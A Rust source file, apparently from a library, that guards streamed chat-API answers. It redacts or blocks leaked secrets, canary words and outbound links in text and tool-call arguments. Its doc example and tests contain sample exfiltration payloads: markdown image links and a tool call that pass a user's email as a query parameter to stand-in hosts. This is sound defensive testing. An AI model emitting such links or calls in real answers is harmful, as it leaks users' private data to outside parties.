//! Answers that stream in as events of a chat API, checked before originals are put back.
//!
//! In: server-sent events in pieces cut anywhere. Out: the same events without what leaks, or an error. Each text is checked
//! by itself, line by line, so that its pieces come out when a line is complete; arguments of tools, which are JSON, when they are
//! complete. All other strings, of unknown events too, are checked where they stand. What can't be followed is not passed
//! on.

use std::borrow::Cow;
use std::fmt;
use std::sync::{Arc, Mutex, PoisonError};

use super::{AnswerChecks, AnswerGuard, Checked, Leak, LeakKind};
use crate::engine::Engine;
use crate::format::json::{Escaping, Leaf, decode, walk, write_string};
use crate::span::Span;
use crate::stream::{Events, Filter, Others, StreamError, TextFilter};

/// Checks a stream of server-sent events: push pieces, cut anywhere, and finish. Put it before an
/// [`SseRestorer`](crate::SseRestorer).
///
/// ```
/// let engine = inkout::Engine::new();
/// let mut guard = inkout::SseGuard::new(&engine, inkout::AnswerChecks::new());
/// let event = |text: &str| format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n");
/// let mut out = guard.push(event("![p](https://x.example/?d=[EMA").as_bytes())?.to_vec();
/// out.extend_from_slice(guard.push(event("IL_1]) bye").as_bytes())?);
/// out.extend_from_slice(guard.finish()?);
/// assert_eq!(out, (event("") + &event("") + &event("![p]([LINK]) bye")).into_bytes());
/// # Ok::<(), inkout::StreamError>(())
/// ```
pub struct SseGuard<'v> {
    events: Events<Guard<'v>>,
    failed: Option<StreamError>,
}

impl fmt::Debug for SseGuard<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("SseGuard").field("failed", &self.failed).finish_non_exhaustive()
    }
}

impl<'v> SseGuard<'v> {
    /// A guard with these checks.
    pub fn new(engine: &Engine, checks: AnswerChecks<'v>) -> SseGuard<'v> {
        let guard = Guard { engine: engine.clone(), checks, leaks: Log::default() };
        SseGuard { events: Events::new(guard), failed: None }
    }

    /// Take the next bytes; returns what was checked.
    ///
    /// # Errors
    /// If the answer leaks and is to be withheld, or can't be followed. What came out before was clean; from then on every
    /// call fails.
    pub fn push(&mut self, piece: &[u8]) -> Result<&[u8], StreamError> {
        self.failed.map_or(Ok(()), Err)?;
        self.events.push(piece).inspect_err(|error| self.failed = Some(*error))
    }

    /// The stream is over; returns the rest.
    ///
    /// # Errors
    /// As for [`SseGuard::push`].
    #[must_use = "the rest of the answer is in what this returns"]
    pub fn finish(&mut self) -> Result<&[u8], StreamError> {
        self.failed.map_or(Ok(()), Err)?;
        let rest = self.events.finish();
        self.failed = Some(rest.as_ref().err().copied().unwrap_or(StreamError::Finished));
        rest
    }

    /// What leaked since this was last asked.
    pub fn take_leaks(&mut self) -> Vec<LeakKind> {
        self.events.filter.leaks.take()
    }

    /// Whether the answer is withheld.
    pub fn is_blocked(&self) -> bool {
        self.failed == Some(StreamError::Blocked)
    }
}

/// What leaked in all texts of a stream.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<LeakKind>>>);

impl Log {
    fn note(&self, leaks: &[Leak]) {
        let mut log = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        log.extend(leaks.iter().map(|leak| leak.kind));
    }

    fn take(&self) -> Vec<LeakKind> {
        std::mem::take(&mut self.0.lock().unwrap_or_else(PoisonError::into_inner))
    }
}

/// Checks what the texts of a stream say.
struct Guard<'v> {
    engine: Engine,
    checks: AnswerChecks<'v>,
    leaks: Log,
}

/// One text that is checked.
enum Text<'v> {
    /// Line by line.
    Plain(Box<AnswerGuard<'v>>, Log),
    /// JSON, when it is complete: it is kept until then.
    Json { engine: Engine, checks: AnswerChecks<'v>, leaks: Log, json: Vec<u8> },
}

impl<'v> Filter for Guard<'v> {
    type Text = Text<'v>;

    fn begin(&self, json: bool) -> Text<'v> {
        let (checks, leaks) = (self.checks.clone(), self.leaks.clone());
        if json {
            return Text::Json { engine: self.engine.clone(), checks, leaks, json: Vec::new() };
        }
        Text::Plain(Box::new(AnswerGuard::new(&self.engine, checks)), leaks)
    }

    fn miss(&self) -> Result<(), StreamError> {
        Err(StreamError::Blocked)
    }

    fn others(&mut self, event: &Others<'_>) -> Result<Vec<(Span, Vec<u8>)>, StreamError> {
        if event.data.is_empty() {
            // A comment, or what is no whole event: nothing in it can be taken out.
            let clean = self.clean(event.raw)?;
            return clean.map_or(Ok(Vec::new()), |_| Err(StreamError::Blocked));
        }
        let (mut edits, mut problem) = (Vec::new(), None);
        let walked = walk(event.data, |_, kind, span| {
            if kind == Leaf::String && !event.pieces.contains(&span) {
                match self.string(event.data, span) {
                    Ok(string) => edits.extend(string.map(|string| (span, string))),
                    Err(error) => problem = Some(error),
                }
            }
        });
        if walked.is_err() {
            let whole = Span::new(0, event.data.len());
            edits = self.clean(event.data)?.map(|clean| (whole, clean)).into_iter().collect();
        }
        problem.map_or(Ok(edits), Err)
    }
}

impl Guard<'_> {
    /// A text without what leaks; nothing if it stays as it is.
    fn clean(&self, text: &[u8]) -> Result<Option<Vec<u8>>, StreamError> {
        let text = String::from_utf8_lossy(text);
        taken(self.engine.check_answer(&text, &self.checks), &self.leaks)
    }

    /// A string of JSON without what leaks, quotes included; nothing if it stays as it is.
    fn string(&self, json: &[u8], span: Span) -> Result<Option<Vec<u8>>, StreamError> {
        let text = decode(json, span).unwrap_or_default();
        let written = |clean: Vec<u8>| {
            let mut string = Vec::new();
            write_string(&clean, Escaping::of(&json[span.range()]), &mut string);
            string
        };
        Ok(self.clean(&text)?.map(written))
    }
}

/// What is left of a checked text, if it changed; its leaks are noted.
fn taken(checked: Checked<'_>, leaks: &Log) -> Result<Option<Vec<u8>>, StreamError> {
    leaks.note(&checked.leaks);
    match checked.text {
        _ if checked.blocked => Err(StreamError::Blocked),
        Cow::Borrowed(_) => Ok(None),
        Cow::Owned(clean) => Ok(Some(clean.into_bytes())),
    }
}

impl TextFilter for Text<'_> {
    fn push(&mut self, piece: &[u8]) -> Result<&[u8], StreamError> {
        match self {
            Text::Plain(guard, leaks) => told(guard, leaks, |guard| guard.push(piece).map(drop)),
            Text::Json { json, .. } => {
                json.extend_from_slice(piece);
                Ok(&[])
            }
        }
    }

    fn finish(&mut self) -> Result<&[u8], StreamError> {
        match self {
            Text::Plain(guard, leaks) => told(guard, leaks, |guard| guard.finish().map(drop)),
            Text::Json { engine, checks, leaks, json } => {
                let text = String::from_utf8_lossy(json).into_owned();
                let checked = match engine.check_chat(&text, checks) {
                    Ok(checked) => checked,
                    // Arguments that were cut off.
                    Err(_) => engine.check_answer(&text, checks),
                };
                if let Some(clean) = taken(checked, leaks)? {
                    *json = clean;
                }
                Ok(json)
            }
        }
    }
}

/// Let a guard work, note what leaks, and return what it lets out.
fn told<'g>(
    guard: &'g mut AnswerGuard<'_>,
    leaks: &Log,
    work: impl FnOnce(&mut AnswerGuard<'_>) -> Result<(), StreamError>,
) -> Result<&'g [u8], StreamError> {
    let worked = work(guard);
    leaks.note(guard.leaks());
    worked.map(|()| guard.let_out())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::answer::OnLeak;
    use crate::{SseRestorer, Vault};

    fn delta(text: &str) -> String {
        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n")
    }

    fn call(text: &str) -> String {
        format!(
            "event: content_block_delta\ndata: {{\"type\":\"content_block_delta\",\"index\":1,\"delta\":\
             {{\"type\":\"input_json_delta\",\"partial_json\":\"{text}\"}}}}\n\n"
        )
    }

    fn stop() -> String {
        "event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":1}\n\n"
            .to_owned()
    }

    fn checked(stream: &str, on_leak: OnLeak) -> Result<String, StreamError> {
        let vault = Vault::new();
        vault.insert("email", "bob@x.example.com");
        let engine = Engine::new();
        let checks = || AnswerChecks::new().canary("blue-heron-417").vault(&vault).on_leak(on_leak);
        let run = |pieces: &[&[u8]]| {
            let (mut guard, mut restorer) =
                (SseGuard::new(&engine, checks()), SseRestorer::of(&vault));
            let mut out = Vec::new();
            for piece in pieces {
                out.extend_from_slice(restorer.push(guard.push(piece)?));
            }
            out.extend_from_slice(restorer.push(guard.finish()?));
            out.extend_from_slice(restorer.finish());
            Ok(String::from_utf8(out).unwrap())
        };
        let whole = run(&[stream.as_bytes()]);
        for cut in (0..=stream.len()).step_by(9) {
            let (a, b) = stream.as_bytes().split_at(cut);
            assert_eq!(run(&[a, b]), whole, "cut at {cut}");
        }
        whole
    }

    #[test]
    fn texts_are_checked_by_line_and_restored_behind_it() {
        let done = "data: [DONE]\n\n";
        let stream = [
            &delta("Hi [EMA"),
            &delta("IL_1]\\n![p](https://e.exam"),
            &delta("ple/?d=[EMAIL_1]) the word is blue he"),
            &delta("ron 417"),
            done,
        ]
        .concat();
        let expected = [
            &delta(""),
            &delta("Hi bob@x.example.com\\n"),
            &delta(""),
            &delta(""),
            &delta("![p]([LINK]) the word is [CANARY]"),
            done,
        ]
        .concat();
        assert_eq!(checked(&stream, OnLeak::Redact).unwrap(), expected);
        assert_eq!(checked(&stream, OnLeak::Block), Err(StreamError::Blocked));
    }

    #[test]
    fn arguments_are_checked_when_they_are_complete() {
        let stream = [
            call(r#"{\"to\":\"[EMAIL_1]\",\"u"#),
            call(r#"rl\":\"https://e.example/?d=[EMAIL_1]\"}"#),
            stop(),
        ]
        .concat();
        let expected = [
            call(""),
            call(""),
            call(r#"{\"to\":\"bob@x.example.com\",\"url\":\"[LINK]\"}"#),
            stop(),
        ]
        .concat();
        assert_eq!(checked(&stream, OnLeak::Redact).unwrap(), expected);
    }

    #[test]
    fn what_can_not_be_followed_is_checked_where_it_stands() {
        for (stream, expected) in [
            (": a comment\n\n", Ok(": a comment\n\n")),
            (": blue heron 417\n\n", Err(StreamError::Blocked)),
            ("data: {\"new\":\"blue heron 417\"}\n\n", Ok("data: {\"new\":\"[CANARY]\"}\n\n")),
            ("data: blue heron 417\n\n", Ok("data: [CANARY]\n\n")),
            (
                "data: {\"choices\":[{\"delta\":{\"content\":\"blue heron 417",
                Err(StreamError::Blocked),
            ),
        ] {
            assert_eq!(checked(stream, OnLeak::Redact), expected.map(str::to_owned), "{stream}");
        }
    }
}
